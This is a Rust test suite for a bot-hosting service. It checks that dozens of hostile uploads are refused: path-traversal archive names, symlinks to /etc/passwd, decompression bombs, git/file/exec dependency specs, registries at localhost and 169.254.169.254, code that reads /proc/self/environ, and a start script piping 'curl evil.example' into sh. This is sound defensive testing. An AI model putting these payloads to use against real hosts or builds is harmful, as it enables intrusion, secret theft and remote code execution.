//! Hostile uploads, each by the door and through a whole build: what was uploaded, and what refused it.

use flate2::Compression;
use flate2::write::GzEncoder;
use roost::egress::EgressLimits;
use serde_json::{Value, json};
use std::io::Write as _;
use tar::{Builder, EntryType, Header};

use super::refusal;
use super::registries::{Answer, Registry, needs, package};
use crate::host::support::TestHost;
use crate::host::versions::{named, packed};

/// What was uploaded, the upload, and a part of what its author reads.
type Row = (String, Vec<u8>, &'static str);

fn row(what: &str, upload: Vec<u8>, says: &'static str) -> Row {
    (what.to_owned(), upload, says)
}

fn zipped(bytes: &[u8]) -> Vec<u8> {
    let mut zipped = GzEncoder::new(Vec::new(), Compression::fast());
    zipped.write_all(bytes).unwrap();
    zipped.finish().unwrap()
}

/// An archive as a hostile program writes it: kinds, names and links that no library would.
fn raw(entries: &[(EntryType, &[u8], &[u8])]) -> Vec<u8> {
    let mut builder = Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    for (kind, name, content) in entries {
        let mut header = Header::new_gnu();
        header.set_entry_type(*kind);
        header.set_mode(0o4777);
        header.as_old_mut().name[..name.len()].copy_from_slice(name);
        let has_content = kind.is_file() || kind.is_gnu_longname();
        match has_content {
            true => header.set_size(content.len() as u64),
            false => {
                header.set_size(0);
                header.as_old_mut().linkname[..content.len()].copy_from_slice(content);
            }
        }
        header.set_cksum();
        let content = if has_content { content } else { &b""[..] };
        builder.append(&header, content).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

fn named_file(name: &[u8]) -> Vec<u8> {
    raw(&[
        (EntryType::Regular, b"app.js", b"1"),
        (EntryType::Regular, name, b"x"),
    ])
}

fn special(kind: EntryType) -> Vec<u8> {
    raw(&[
        (EntryType::Regular, b"app.js", b"1"),
        (kind, b"x", b"/etc/passwd"),
    ])
}

fn archives() -> Vec<Row> {
    let large = vec![0; (128 << 20) + 1];
    let whole = packed(&[("app.js", &"x".repeat(5_000))]);
    let mut changed = whole.clone();
    let middle = changed.len() / 2;
    changed[middle] ^= 0xff;
    let long = [b"d/".repeat(400), b"app.js".to_vec()].concat();
    let many: Vec<String> = (0..=20_000).map(|n| format!("{n}.js")).collect();
    let many: Vec<(&str, &str)> = many.iter().map(|name| (name.as_str(), "")).collect();
    vec![
        row(
            "a name that leads up",
            named_file(b"../app.js"),
            "leads out of the bot's folder",
        ),
        row(
            "a name from the root",
            named_file(b"/etc/cron.d/x"),
            "leads out of the bot's folder",
        ),
        row(
            "a name that leads up inside",
            named_file(b"src/../../x"),
            "leads out of the bot's folder",
        ),
        row(
            "a name that ends above",
            named_file(b"a/.."),
            "leads out of the bot's folder",
        ),
        row(
            "a name with a bell",
            named_file(b"a\x07b"),
            "is no name for a file",
        ),
        row(
            "a name that is no text",
            named_file(b"a\xff\xfeb"),
            "is no name for a file",
        ),
        row(
            "a name of 800 bytes",
            raw(&[
                (EntryType::GNULongName, b"././@LongLink", &long),
                (EntryType::Regular, b"x", b"1"),
            ]),
            "is no name for a file",
        ),
        row(
            "a symbolic link",
            special(EntryType::Symlink),
            "a symbolic link",
        ),
        row("a hard link", special(EntryType::Link), "a hard link"),
        row("a pipe", special(EntryType::Fifo), "a device or a pipe"),
        row(
            "a character device",
            special(EntryType::Char),
            "a device or a pipe",
        ),
        row(
            "a block device",
            special(EntryType::Block),
            "a device or a pipe",
        ),
        row(
            "a file through a link",
            raw(&[
                (EntryType::Symlink, b"d", b"/tmp"),
                (EntryType::Regular, b"d/app.js", b"1"),
            ]),
            "a symbolic link",
        ),
        row(
            "a link in the place of package.json",
            raw(&[
                (EntryType::Regular, b"app.js", b"1"),
                (EntryType::Symlink, b"package.json", b"/etc/passwd"),
            ]),
            "a symbolic link",
        ),
        row(
            "a file and a folder at once",
            raw(&[
                (EntryType::Regular, b"a", b"1"),
                (EntryType::Regular, b"a/b", b"1"),
            ]),
            "is a file and a folder at once",
        ),
        row("too many files", packed(&many), "more than 20000 files"),
        row("a bomb", zipped(&large), "holds no file of a bot"),
        row(
            "a bomb in a file",
            raw(&[(EntryType::Regular, b"zeros", &large)]),
            "unpacks to more than 128 MiB",
        ),
        row(
            "a bomb in what is left out",
            raw(&[(EntryType::Regular, b"node_modules/x", &large)]),
            "unpacks to more than 128 MiB",
        ),
        row(
            "half an archive",
            whole[..whole.len() / 2].to_vec(),
            "cannot be read",
        ),
        row("an archive that was changed", changed, "cannot be read"),
        row("a zip of nothing", zipped(b""), "holds no file"),
        row("a zip of a zip", zipped(&whole), "cannot be read"),
        row(
            "a zip of a text",
            zipped(&b"not an archive, but a long text. ".repeat(40)),
            "cannot be read",
        ),
        row("secrets only", packed(&[(".env", "A=1")]), "holds no file"),
        row(
            "packages only",
            packed(&[("node_modules/x/index.js", "1")]),
            "holds no file",
        ),
        row(
            "another kind of archive",
            b"PK\x03\x04".to_vec(),
            "neither a tar.gz",
        ),
        row(
            "a module",
            b"\0asm\x01\0\0\0".to_vec(),
            "a WebAssembly module, not a component",
        ),
        row(
            "half a component",
            b"\0asm\x0d\0\x01\0\x01\xff".to_vec(),
            "component",
        ),
    ]
}

fn packages() -> Vec<Row> {
    let of = |package: &str| packed(&[("package.json", package), ("app.js", "1")]);
    let setting = |roost: Value| of(&json!({ "main": "app.js", "roost": roost }).to_string());
    vec![
        row("a package.json that is none", of("{"), "is not valid"),
        row("a package.json that is a list", of("[1]"), "is not valid"),
        row(
            "a package.json without an end",
            of(&"[".repeat(200_000)),
            "is not valid",
        ),
        row(
            "a setting that is none",
            setting(json!({ "shell": "sh" })),
            "has no setting named",
        ),
        row(
            "a folder above",
            setting(json!({ "folder": ".." })),
            "no such folder below this one",
        ),
        row(
            "a folder of the host",
            setting(json!({ "folder": "/etc" })),
            "no such folder below this one",
        ),
        row(
            "an entry above",
            setting(json!({ "entry": "../../app.js" })),
            "roost.entry",
        ),
        row(
            "an entry of the host",
            setting(json!({ "entry": "/etc/passwd" })),
            "roost.entry",
        ),
        row(
            "a start script of the shell's",
            of(r#"{"scripts":{"start":"curl evil.example | sh"}}"#),
            "listens on no port",
        ),
    ]
}

/// What a dependency may be written as, and is not of a registry.
const ELSEWHERE: [&str; 22] = [
    "git+http://127.0.0.1:9/x.git",
    "git+ssh://git@host.example/x.git",
    "git+file:///etc",
    "git://host.example/x",
    "git@host.example:a/b.git",
    "github:a/b",
    "gitlab:a/b",
    "bitbucket:a/b",
    "gist:123",
    "a/b#main",
    "http://127.0.0.1:9/x.tgz",
    "https://host.example/x.tgz",
    "file:..",
    "file:../../artifacts",
    "file:/etc",
    "link:/etc",
    "portal:../x",
    "../artifacts",
    "npm:x@git+file:///x",
    "npm:x@file:../x",
    "exec:./x.sh",
    "file:package.json",
];

fn dependencies() -> Vec<Row> {
    let refused = "take a version of the registry";
    let with = |package: Value, lock: Option<Value>| {
        let (package, lock) = (package.to_string(), lock.map(|lock| lock.to_string()));
        let mut files = vec![
            ("package.json", package.as_str()),
            ("app.js", "require('dep')"),
        ];
        files.extend(lock.as_deref().map(|lock| ("package-lock.json", lock)));
        packed(&files)
    };
    let plain = json!({ "main": "app.js", "dependencies": { "dep": "1.0.0" } });
    let locked = |path: &str, package: Value| {
        let lock = json!({ "lockfileVersion": 3, "packages": {
            "": { "dependencies": { "dep": "1.0.0" } },
            "node_modules/dep": { "version": "1.0.0" },
            path: package,
        } });
        with(plain.clone(), Some(lock))
    };
    let mut rows: Vec<Row> = ELSEWHERE
        .iter()
        .map(|spec| {
            let package = json!({ "main": "app.js", "dependencies": { "dep": spec } });
            (
                format!("a dependency `{spec}`"),
                with(package, None),
                refused,
            )
        })
        .collect();
    let optional = json!({ "main": "app.js", "dependencies": { "left": "1" }, "optionalDependencies": { "dep": "a/b" } });
    let overridden = json!({ "main": "app.js", "dependencies": { "left": "1" }, "overrides": { "left": { "dep": "file:/etc" } } });
    rows.extend([
        row(
            "an optional dependency from elsewhere",
            with(optional, None),
            refused,
        ),
        row(
            "an override from elsewhere",
            with(overridden, None),
            refused,
        ),
        row(
            "a link of a lock file",
            locked(
                "node_modules/dep",
                json!({ "resolved": "../../artifacts", "link": true }),
            ),
            refused,
        ),
        row(
            "a folder of a lock file",
            locked(
                "../artifacts/node_modules/dep",
                json!({ "version": "1.0.0" }),
            ),
            "is not in the bot's folder",
        ),
        row(
            "a repository of a lock file",
            locked(
                "node_modules/dep",
                json!({ "version": "1.0.0", "resolved": "git+ssh://git@h/x.git#1" }),
            ),
            refused,
        ),
        row(
            "another name in a lock file",
            locked(
                "node_modules/dep",
                json!({ "name": "ms@file:/etc#", "version": "2.1.3" }),
            ),
            refused,
        ),
        row(
            "a dependency inside of a lock file",
            locked(
                "node_modules/x",
                json!({ "version": "1.0.0", "dependencies": { "dep": "github:a/b" } }),
            ),
            refused,
        ),
    ]);
    rows
}

/// What an `.npmrc` may not name.
const NO_REGISTRIES: [&str; 7] = [
    "http://127.0.0.1:1/",
    "http://[::1]:1/",
    "http://169.254.169.254/latest/",
    "https://registry.npmjs.org.evil.example/",
    "file:///etc",
    "http://localhost:1/",
    "//10.0.0.1/",
];

fn settings() -> Vec<Row> {
    let rows = NO_REGISTRIES.iter().map(|url| {
        let upload = needs("dep", &format!("registry={url}"));
        let says = "is not a registry that this host takes packages from";
        (format!("a registry at {url}"), upload, says)
    });
    rows.collect()
}

fn code() -> Vec<Row> {
    let app =
        |source: &str| packed(&[("package.json", r#"{"main":"app.js"}"#), ("app.js", source)]);
    let typescript = |settings: &str| {
        packed(&[
            ("package.json", r#"{"main":"app.ts"}"#),
            ("app.ts", "import x from '@/secret'\nconsole.log(x)"),
            ("tsconfig.json", settings),
        ])
    };
    let outside = "folder";
    vec![
        row(
            "code of the host by its path",
            app("require('/usr/lib/node_modules/npm/index.js')"),
            outside,
        ),
        row(
            "a file of the host by its path",
            app("require('/etc/passwd')"),
            "/etc/passwd",
        ),
        row(
            "the host's environment",
            app("require('/proc/self/environ')"),
            "/proc/self/environ",
        ),
        row(
            "a file above the folder",
            app("require('../../../artifacts/x.json')"),
            "../../../artifacts/x.json",
        ),
        row(
            "what the build wrote beside",
            app("require('../way.cjs')"),
            "way.cjs",
        ),
        row(
            "a file by its URL",
            app("import x from 'file:///etc/passwd'; console.log(x)"),
            "/etc/passwd",
        ),
        row(
            "text of the host",
            app("import x from '/etc/ssl/openssl.cnf'; console.log(x)"),
            "openssl.cnf",
        ),
        row(
            "paths of TypeScript that lead out",
            typescript(r#"{"compilerOptions":{"paths":{"@/*":["/etc/*","../../*"]}}}"#),
            "@/secret",
        ),
        row(
            "settings of TypeScript that are the host's",
            typescript(r#"{"extends":"../../../tsconfig.json"}"#),
            "@/secret",
        ),
        row(
            "a file of variables",
            packed(&[
                ("package.json", r#"{"main":"app.js"}"#),
                ("app.js", "require('./x.env.js'); require('./live.env')"),
                ("x.env.js", "1"),
            ]),
            "live.env",
        ),
        row(
            "machine code",
            packed(&[
                ("package.json", r#"{"main":"app.js"}"#),
                ("app.js", "require('./addon.node')"),
                ("addon.node", "\u{7f}ELF"),
            ]),
            "addon.node",
        ),
        row(
            "brackets without an end",
            app(&"(".repeat(400_000)),
            "more memory or processor time",
        ),
        row(
            "brackets in brackets",
            app(&format!(
                "x = {}1{}",
                "[".repeat(200_000),
                "]".repeat(200_000)
            )),
            "",
        ),
        row("a top level that never ends", app("for (;;) {}"), "20 s"),
        row(
            "a top level that eats memory",
            app("const a = []; for (;;) a.push(new Uint8Array(1e6).fill(1))"),
            "memory",
        ),
        row(
            "a top level that looks for the host",
            app("console.log(require('fs').readFileSync('/etc/passwd', 'utf8'))"),
            "ENOENT",
        ),
        row(
            "a top level that calls the host",
            app("require('net').connect(80, '127.0.0.1')"),
            "",
        ),
    ]
}

/// Packages that a registry gives, which the operator allows.
fn of(registry: &Registry) -> Vec<Row> {
    let npmrc = format!("registry={}/", registry.base);
    let manifest = |name: &str| format!(r#"{{"name":"{name}","version":"1.0.0"}}"#);
    let link = |name: &str, kind| {
        let mut builder = Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
        let manifest = manifest(name);
        let mut header = Header::new_gnu();
        header.set_size(manifest.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder
            .append_data(&mut header, "package/package.json", manifest.as_bytes())
            .unwrap();
        let mut header = Header::new_gnu();
        header.set_entry_type(kind);
        header.set_size(0);
        builder
            .append_link(&mut header, "package/index.js", "/etc/passwd")
            .unwrap();
        builder.into_inner().unwrap().finish().unwrap()
    };
    let leads_up = raw(&[
        (
            EntryType::Regular,
            b"package/package.json",
            manifest("leads-up").as_bytes(),
        ),
        (EntryType::Regular, b"package/../../../../index.js", b"1"),
    ]);
    let deep = json!({ "dependencies": { "dep": "git+file:///etc" } });
    let changed = json!({ "dist": {
        "tarball": format!("{}/changed/-/changed-1.0.0.tgz", registry.base),
        "integrity": "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==",
    } });
    let scripted = json!({ "hasInstallScript": true, "scripts": { "preinstall": "exit 1", "install": "touch made.js" } });
    let script = package(&[
        (
            "package.json",
            r#"{"name":"scripted","version":"1.0.0","scripts":{"preinstall":"exit 1","install":"touch made.js"}}"#,
        ),
        ("index.js", "require('./made.js')"),
    ]);
    let bomb = vec![b'1'; 300 << 20];
    let bomb = raw(&[
        (
            EntryType::Regular,
            b"package/package.json",
            manifest("bomb").as_bytes(),
        ),
        (EntryType::Regular, b"package/index.js", &bomb),
    ]);
    let gives = [
        (
            "linked",
            json!({}),
            Answer::Bytes(link("linked", EntryType::Symlink)),
            "linked",
        ),
        (
            "hard-linked",
            json!({}),
            Answer::Bytes(link("hard-linked", EntryType::Link)),
            "hard-linked",
        ),
        ("leads-up", json!({}), Answer::Bytes(leads_up), "leads-up"),
        (
            "deep",
            deep,
            Answer::Bytes(package(&[("package.json", &manifest("deep"))])),
            "git+file",
        ),
        (
            "changed",
            changed,
            Answer::Bytes(package(&[("package.json", &manifest("changed"))])),
            "EINTEGRITY",
        ),
        ("scripted", scripted, Answer::Bytes(script), "made.js"),
        (
            "no-archive",
            json!({}),
            Answer::Bytes(b"no archive".to_vec()),
            "npm error",
        ),
        ("a-bomb", json!({}), Answer::Bytes(bomb), "npm"),
        (
            "led-in",
            json!({}),
            Answer::To("http://127.0.0.1:1/x".to_owned()),
            "127.0.0.1",
        ),
        (
            "led-on",
            json!({}),
            Answer::To("/led-on/-/led-on-1.0.0.tgz".to_owned()),
            "leads on too often",
        ),
    ];
    let mut rows = Vec::new();
    for (name, manifest, archive, says) in gives {
        registry.has(name, manifest, archive);
        rows.push((format!("the package `{name}`"), needs(name, &npmrc), says));
    }
    registry.answers("/no-listing", Answer::Bytes(b"<html>".to_vec()));
    rows.push(row(
        "a listing that is none",
        needs("no-listing", &npmrc),
        "npm error",
    ));
    registry.answers(
        "/nested",
        Answer::Bytes(format!("{{\"a\":{}", "[".repeat(2_000_000)).into_bytes()),
    );
    rows.push(row(
        "a listing without an end",
        needs("nested", &npmrc),
        "npm error",
    ));
    rows
}

/// None of them is ready, none shows a file of the host, and the next bot serves.
async fn are_refused(registry: &Registry, rows: Vec<Row>) {
    let mut host = TestHost::start_with(registry.host(EgressLimits::default())).await;
    let operator = host.operator();
    host.project("evil").await;
    let mut wrong = Vec::new();
    for (what, upload, says) in rows {
        match refusal(&operator, "evil", upload).await {
            Some(error) if error.contains(says) && !error.contains("root:x:0") => {}
            Some(error) => wrong.push(format!("{what}: no `{says}` in {error}")),
            None => wrong.push(format!("{what}: it is ready")),
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    host.project("shop").await;
    let upload = packed(&[("app.js", &named("as ever"))]);
    assert_eq!(refusal(&operator, "shop", upload).await, None);
    assert!(!std::fs::exists("/etc/cron.d/x").unwrap());
}

#[test]
fn there_are_sixty_uploads_that_are_refused() {
    let rows = [
        archives(),
        packages(),
        settings(),
        dependencies(),
        code(),
        of(&Registry::start()),
    ];
    let count: usize = rows.iter().map(Vec::len).sum();
    assert!(count >= 60, "{count}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_archives_and_settings_are_refused() {
    let rows = [archives(), packages(), settings()].concat();
    are_refused(&Registry::start(), rows).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dependencies_from_elsewhere_are_refused() {
    are_refused(&Registry::start(), dependencies()).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_code_is_refused() {
    are_refused(&Registry::start(), code()).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_packages_are_refused() {
    let registry = Registry::start();
    let rows = of(&registry);
    are_refused(&registry, rows).await;
}
